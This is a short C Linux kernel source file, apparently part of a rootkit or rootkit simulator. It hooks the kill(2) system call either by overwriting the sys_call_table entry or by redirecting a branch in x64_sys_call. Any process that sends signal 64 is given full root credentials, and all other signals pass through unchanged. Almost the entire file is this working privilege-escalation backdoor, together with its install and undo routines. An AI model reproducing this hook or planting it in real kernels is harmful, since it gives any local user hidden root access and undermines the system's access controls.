// SPDX-License-Identifier: GPL-2.0
/*
 * Listens at kill(2), through a slot of the table of system calls or a call in x64_sys_call: whoever
 * sends signal 64 is root afterwards. Every other signal is handed on.
 */
#include "simulator.h"
#include <linux/cred.h>
#include <linux/ptrace.h>
#include <linux/sched/task.h>

#define SIGNAL 64
#define KILL 62

static long (*original)(const struct pt_regs *regs);
static void **slot;
static struct branch_site call;

static long heard(const struct pt_regs *regs)
{
	if (regs->si != SIGNAL)
		return original(regs);
	return commit_creds(prepare_kernel_cred(&init_task));
}

static int plant(void)
{
	u8 *code = find("x64_sys_call");

	original = find("__x64_sys_kill");
	if (code)
		return redirect(&call, code, original, heard);
	slot = (void **)find("sys_call_table") + KILL;
	poke_pointer(slot, heard);
	return 0;
}

static void undo(void)
{
	if (slot)
		poke_pointer(slot, original);
	else
		restore_branch(&call);
}
